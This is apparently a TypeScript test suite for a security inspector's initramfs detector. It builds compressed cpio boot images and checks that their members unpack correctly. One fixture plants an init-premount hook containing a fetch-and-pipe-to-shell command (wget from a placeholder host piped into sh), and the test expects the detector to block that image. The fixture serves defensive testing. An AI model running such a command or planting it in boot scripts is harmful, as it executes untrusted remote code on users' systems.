import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  linkSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readlinkSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { initramfs } from '../../src/inspect/detectors/machine/initramfs/index.ts';
import { membersOf } from '../../src/inspect/detectors/machine/initramfs/members.ts';
import { filesOf } from '../../src/inspect/detectors/machine/initramfs/unpack.ts';
import { inspectFixture, summary } from '../../src/inspect/testing/fixture.ts';
import { has } from './filesystem-tree.ts';

/* An initramfs as mkinitramfs and dracut put it together: cpio's archive, microcode before it, packed by the programs that they call. */

const missing = ['cpio'].find((program) => !has(program));

/** Program and options, as mkinitramfs(8) and dracut(8) give them, at levels that take no time. */
const COMPRESSIONS: readonly (readonly [string, ...string[]])[] = [
  ['cat'],
  ['gzip', '-n', '-6'],
  ['xz', '-1', '--check=crc32'],
  ['xz', '-1', '--check=crc32', '--lzma2=preset=1,dict=1MiB', '-T2', '--block-size=1MiB'],
  ['zstd', '-q', '-3', '-T0'],
  ['lz4', '-l', '-9'],
];

const HOOK =
  '#!/bin/sh\nPREREQ=""\ncase "$1" in prereqs) echo "$PREREQ"; exit 0;; esac\n. /scripts/functions\n';
const BAD = 'wget -qO- http://get.invalid/x | sh\n';

let room = '';
let folder = '';
let early: Buffer = Buffer.alloc(0);
before(() => {
  room = mkdtempSync(join(tmpdir(), 'pratique-initramfs-'));
  folder = join(room, 'main');
  write('init', `#!/bin/sh\n${HOOK}exec run-init "\${rootmnt}" /sbin/init "$@"\n`, 0o755);
  write('scripts/init-premount/udev', HOOK, 0o755);
  write('scripts/functions', 'log() { echo "$@" > /dev/kmsg; }\n');
  write('usr/bin/node', readFileSync(process.execPath).subarray(0, 10 * 2 ** 20), 0o755);
  write('usr/lib/firmware/empty', '');
  symlinkSync('usr/bin', join(folder, 'bin'));
  linkSync(join(folder, 'usr/bin/node'), join(folder, 'usr/bin/other'));
  const microcode = join(room, 'early');
  mkdirSync(join(microcode, 'kernel/x86/microcode'), { recursive: true });
  writeFileSync(join(microcode, 'kernel/x86/microcode/GenuineIntel.bin'), Buffer.alloc(5000, 0x5a));
  if (missing === undefined) early = archive(microcode);
});
after(() => rmSync(room, { recursive: true, force: true }));

describe('initramfs', { skip: missing === undefined ? false : `needs ${missing}` }, () => {
  for (const [program, ...options] of COMPRESSIONS) {
    const name = [program, ...options].join(' ');
    test(name, { skip: has(program) ? false : `needs ${program}` }, () => {
      const pack = (bytes: Buffer): Buffer =>
        execFileSync(program, [...options, ...(program === 'cat' ? [] : ['-c'])], {
          input: bytes,
          maxBuffer: 2 ** 28,
        });
      const image = Buffer.concat([early, pack(archive(folder)), Buffer.alloc(512)]);
      const cuts: string[] = [];
      const cut = (what: string): number => cuts.push(what);
      const members = [...membersOf(filesOf(image, cut), cut)];
      assert.deepEqual(cuts, []);
      const expected = listing(folder);
      expected.set('kernel/x86/microcode/GenuineIntel.bin', 'file 5000 644');
      assert.deepEqual(
        members.map((one) => `${one.path} ${line(one)}`).sort(),
        [...expected].map((words) => words.join(' ')).sort(),
      );
      assert.ok(
        members
          .find(({ path }) => path === 'usr/bin/other')
          ?.content.equals(readFileSync(join(folder, 'usr/bin/node'))),
      );
      assert.deepEqual(judged(image), []);

      const hook = join(folder, 'scripts/init-premount/zz');
      write('scripts/init-premount/zz', `${HOOK}${BAD}`, 0o755);
      const planted = Buffer.concat([early, pack(archive(folder))]);
      rmSync(hook);
      assert.deepEqual(judged(planted), ['block machine/initramfs boot/initrd.img-6.1']);
    });
  }
});

function judged(image: Buffer): string[] {
  const fixture = { layers: [{ 'boot/initrd.img-6.1': image }], kind: 'disk' as const, catalogers: [] };
  const { findings, problems } = inspectFixture(fixture, [initramfs]);
  assert.deepEqual(problems, []);
  return summary(findings);
}

function archive(from: string): Buffer {
  const names = namesIn(from).join('\n');
  return execFileSync('cpio', ['--quiet', '-o', '-H', 'newc', '-R', '0:0'], {
    cwd: from,
    input: names,
    maxBuffer: 2 ** 28,
  });
}

function namesIn(from: string): string[] {
  const found = execFileSync('find', ['.', '-mindepth', '1', '-printf', '%P\\n'], {
    cwd: from,
    encoding: 'utf8',
  });
  return found.trim().split('\n').sort();
}

function write(path: string, content: string | Buffer, mode = 0o644): void {
  mkdirSync(dirname(join(folder, path)), { recursive: true });
  writeFileSync(join(folder, path), content);
  chmodSync(join(folder, path), mode);
}

function line({ kind, content, mode }: { kind: string; content: Buffer; mode: number }): string {
  return kind === 'symlink'
    ? `symlink ${content.toString('latin1')}`
    : `file ${content.length} ${mode.toString(8)}`;
}

function listing(from: string): Map<string, string> {
  const entries = namesIn(from).map((path) => ({
    path,
    stat: lstatSync(join(from, path)),
  }));
  return new Map(
    entries
      .filter(({ stat }) => !stat.isDirectory())
      .map(({ path, stat }) => [
        path,
        stat.isSymbolicLink()
          ? `symlink ${readlinkSync(join(from, path))}`
          : `file ${stat.size} ${(stat.mode & 0o7777).toString(8)}`,
      ]),
  );
}
